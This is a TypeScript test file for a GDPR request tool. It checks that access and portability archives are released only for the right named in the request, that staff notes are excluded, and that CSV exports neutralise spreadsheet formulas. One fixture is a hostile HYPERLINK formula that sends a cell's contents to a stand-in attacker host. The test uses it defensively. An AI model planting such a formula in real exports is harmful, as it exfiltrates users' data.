import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { archives } from "../db/schema/archives";
import { auditLog } from "../db/schema/audit";
import { outbox } from "../db/schema/outbox";
import { seedRegister } from "../scripts/seed-register";
import { closeConnectors } from "../app/utils/connectors.server";
import { startApp, textOf, type TestApp } from "./helpers/app";
import { withDemoConnectors, gatheredCorinne as gathered } from "./helpers/connectors";
import { signedIn } from "./helpers/staff";
import { blobKeys } from "./helpers/blobs";
import { ticketRow } from "./helpers/tickets";
import { csvRows } from "./helpers/csv";
import { downloadArchive } from "./helpers/requester";
import { first } from "../app/utils/db.server";

/**
 * Portability as Art. 20 and the EDPB's guidelines (WP242 rev.01) mean it,
 * over HTTP through the production build: only on a request that asks for it;
 * what the person provided and what was observed of their use of the service,
 * with what is needed to understand it; never what our staff wrote about them.
 */
let app: TestApp;
let demo: Awaited<ReturnType<typeof withDemoConnectors>>;

beforeAll(async () => {
  app = await startApp();
  demo = await withDemoConnectors(app, { respondents: 30, recordings: 30, realAudio: 8, seed: 13 });
  await seedRegister(app.db(), new Date());
});
afterAll(async () => {
  await closeConnectors();
  await app?.stop();
});

const CORINNE = "desmarc.corinne@orange.fr";

const gatheredCorinne = (rights: string[]) => gathered(app, rights);

/** What releasing would have left behind: rows, mail, audit entries, files. */
async function traces(reference: string) {
  const id = (await ticketRow(reference)).id;
  return {
    archives: (await app.db().select().from(archives).where(eq(archives.requestId, id))).length,
    mail: (await app.db().select().from(outbox).where(eq(outbox.requestId, id))).filter((m) => m.template === "archive_ready" || m.template === "sms_archive_ready").length,
    audit: (await app.db().select().from(auditLog).where(eq(auditLog.reference, reference))).filter((a) => a.action.startsWith("archive.")).length,
    files: (await blobKeys(`archives/${id}-`)).length,
  };
}

const json = (zip: Map<string, Buffer>, p: string) => JSON.parse(zip.get(p)!.toString("utf8")) as Record<string, unknown>[];

describe("an archive answers the right the request asks for", () => {
  it("refuses a portability archive on an access-only request: 409, a clear message, no button, nothing written", async () => {
    const { reference, support } = await gatheredCorinne(["access"]);
    const page = textOf(await (await support.get(`/admin/demandes/${reference}`)).text());
    expect(page).not.toContain("Préparer et publier l'archive de portabilité");

    const refused = await support.post(`/admin/demandes/${reference}`, { intent: "release-portability", confirmed: "1" });
    expect(refused.status).toBe(409);
    expect(textOf(await refused.text())).toContain("Cette demande ne porte pas sur la portabilité (art. 20)");
    expect(await traces(reference)).toEqual({ archives: 0, mail: 0, audit: 0, files: 0 });

    // The DPO is offered the access archive, the one the request asks for, and not the other.
    const dpo = await signedIn(app, "dpo");
    const dpoPage = textOf(await (await dpo.browser.get(`/admin/demandes/${reference}`)).text());
    expect(dpoPage).toContain("Préparer et publier l'archive d'accès");
    expect(dpoPage).not.toContain("Préparer et publier l'archive de portabilité");
    expect((await dpo.browser.post(`/admin/demandes/${reference}`, { intent: "release-portability", confirmed: "1" })).status).toBe(409);
    expect(await traces(reference)).toEqual({ archives: 0, mail: 0, audit: 0, files: 0 });
  });

  it("refuses an access archive on a portability-only request, in English too", async () => {
    const { reference } = await gatheredCorinne(["portability"]);
    const dpo = await signedIn(app, "dpo");
    const page = textOf(await (await dpo.browser.get(`/admin/demandes/${reference}`)).text());
    expect(page).not.toContain("Préparer et publier l'archive d'accès");
    expect(page).toContain("Préparer et publier l'archive de portabilité");
    const refused = await dpo.browser.post(`/admin/demandes/${reference}`, { intent: "release-access", confirmed: "1" });
    expect(refused.status).toBe(409);
    expect(textOf(await refused.text())).toContain("Cette demande ne porte pas sur le droit d'accès (art. 15)");
    expect(await traces(reference)).toEqual({ archives: 0, mail: 0, audit: 0, files: 0 });

    await dpo.browser.get("/langue?to=en&back=/");
    const english = await dpo.browser.post(`/admin/demandes/${reference}`, { intent: "release-access", confirmed: "1" });
    expect(english.status).toBe(409);
    expect(textOf(await english.text())).toContain("This request does not ask for access (Art. 15)");
  });
});

describe("the portability archive, as the requester downloads it", () => {
  it("holds each answer with its question and date, the calls' metadata and the contact history, and nothing our staff wrote", async () => {
    const { reference, support } = await gatheredCorinne(["portability"]);
    expect((await support.post(`/admin/demandes/${reference}`, { intent: "release-portability", confirmed: "1" })).status).toBe(302);
    const released = (await first(app.db().select().from(archives).where(eq(archives.requestId, (await ticketRow(reference)).id))))!;
    expect(released.kind).toBe("portability");
    const zip = await downloadArchive(app, CORINNE, released.id);

    // Each answer with its question and its date, in JSON and in CSV.
    const answers = json(zip, "data/survey/answers.json");
    expect(answers).toEqual([
      { question: "Possédez-vous un smartphone ?", answer: "OUI", answered_at: "2026-03-14" },
      { question: "Quels réseaux sociaux avez-vous l'habitude de fréquenter ?", answer: "Facebook", answered_at: "2026-03-14" },
      { question: "À quelle fréquence utilisez-vous ce réseau ?", answer: "Plusieurs fois par jour", answered_at: "2026-03-14" },
      { question: "Pour vous, la publicité sur les réseaux sociaux :", answer: "est intrusive", answered_at: "2026-03-14" },
    ]);
    const csv = csvRows(zip.get("data/survey/answers.csv")!);
    expect(csv[0]).toEqual(["question", "answer", "answered_at"]);
    expect(csv.slice(1)).toEqual(answers.map((a) => [a.question, a.answer, a.answered_at]));

    // Taking part in the survey: when, through which channel, for which study; not our record number.
    const [respondent] = json(zip, "data/survey/respondents.json");
    expect(respondent).toMatchObject({ email: CORINNE, created_at: "2026-03-14T09:12:00.000Z", source_channel: "operator_entry", site: "tours", survey_client: "Osiris" });
    expect(respondent).not.toHaveProperty("id");

    // Call metadata, observed by the telephony platform: both calls, the one without a recording too.
    const calls = json(zip, "data/recordings/recordings.json");
    expect(calls).toHaveLength(2);
    for (const call of calls) {
      expect(Object.keys(call)).toEqual(expect.arrayContaining(["callerNumber", "calledNumber", "site", "startedAt", "durationSeconds", "consentRecorded"]));
      expect(call.startedAt).toMatch(/^\d{4}-\d{2}-\d{2}T/);
      expect(call.site).toBe("tours");
      expect(call).not.toHaveProperty("agentId");
      expect(call).not.toHaveProperty("restricted");
      expect(call).not.toHaveProperty("surveyId");
    }
    expect(calls.map((c) => c.consentRecorded).sort()).toEqual([false, true]);
    expect(csvRows(zip.get("data/recordings/recordings.csv")!)[0]).not.toContain("agentId");

    // The interaction history: date and channel, never the agent's summary or identifier.
    expect(json(zip, "data/crm/interactions.json")).toEqual([
      { at: "2026-03-17T09:12:00.000Z", channel: "phone" },
      { at: "2026-03-18T15:40:00.000Z", channel: "email" },
    ]);
    expect(csvRows(zip.get("data/crm/interactions.csv")!)).toEqual([["at", "channel"], ["2026-03-17T09:12:00.000Z", "phone"], ["2026-03-18T15:40:00.000Z", "email"]]);
    const everything = [...zip.entries()].filter(([name]) => !name.startsWith("recordings/")).map(([, bytes]) => bytes.toString("utf8")).join("\n");
    expect(everything).not.toContain("entretien complet");
    expect(everything).not.toContain("Demande comment ses réponses");
    expect(everything).not.toMatch(/agt-tours-\d+/);

    // The letter says what is in it, what is not, and why.
    const letter = textOf(zip.get("LISEZ-MOI.html")!.toString("utf8"));
    expect(letter).toContain("la question posée et la date de la réponse");
    expect(letter).toContain("WP242");
    expect(letter).toContain("les résumés et notes de nos conseillers");
    expect(letter).toContain("article 20, paragraphe 4");
  });
});

describe("spreadsheet formulas in the released CSVs", () => {
  it("neutralises a CRM value written as a formula and a +33 phone with an apostrophe in the CSV, keeps both exact in the JSON, and says so in the letter", async () => {
    const formula = '=HYPERLINK("https://evil.example/?d="&A2,"Cliquez ici")';
    const mobile = "+33698765432";
    const contact = demo.crm.contacts.get("c-1")!;
    const before = structuredClone(contact);
    Object.assign(contact, { address: formula, phone: mobile });
    try {
      const { reference, support } = await gatheredCorinne(["access", "portability"]);
      const dpo = await signedIn(app, "dpo");
      const zips: Record<string, Map<string, Buffer>> = {};
      for (const [kind, browser] of [["access", dpo.browser], ["portability", support]] as const) {
        expect((await browser.post(`/admin/demandes/${reference}`, { intent: `release-${kind}`, confirmed: "1" })).status).toBe(302);
        const released = (await app.db().select().from(archives).where(eq(archives.requestId, (await ticketRow(reference)).id))).find((a) => a.kind === kind)!;
        zips[kind] = await downloadArchive(app, CORINNE, released.id);
      }

      for (const [kind, zip] of Object.entries(zips)) {
        // The JSON holds the values exactly as the CRM gave them.
        const [crmContact] = json(zip, "data/crm/contacts.json");
        expect(crmContact, kind).toMatchObject({ address: formula, phone: mobile });
        // The CSV: the same cells, each behind an apostrophe a spreadsheet shows and does not run.
        const rows = csvRows(zip.get("data/crm/contacts.csv")!);
        const cell = (name: string) => rows[1]![rows[0]!.indexOf(name)];
        expect(cell("address"), kind).toBe(`'${formula}`);
        expect(cell("phone"), kind).toBe(`'${mobile}`);
        expect(cell("email"), kind).toBe(CORINNE);
        // No cell of any CSV in the archive starts as a formula (the survey's +33 number included).
        const csvs = [...zip.keys()].filter((name) => name.endsWith(".csv"));
        expect(csvs.length, kind).toBeGreaterThan(1);
        for (const name of csvs) {
          for (const row of csvRows(zip.get(name)!)) for (const value of row) expect(value, `${kind} ${name}`).not.toMatch(/^[=+\-@\t\r]/);
        }
        expect(csvRows(zip.get("data/survey/respondents.csv")!).flat(), kind).toContain("'+33247000000");
        expect(json(zip, "data/survey/respondents.json")[0], kind).toMatchObject({ phone: "+33247000000" });
        // The letter says so, in the request's language.
        const letter = zip.get("LISEZ-MOI.html")!.toString("utf8").replace(/<[^>]+>/g, "");
        expect(letter, kind).toContain("une apostrophe (') a été ajoutée au début des cellules qui commencent par =, +, - ou @");
        expect(letter, kind).toContain("Les fichiers JSON contiennent les valeurs exactes.");
      }
    } finally {
      Object.assign(contact, before);
    }
  });
});
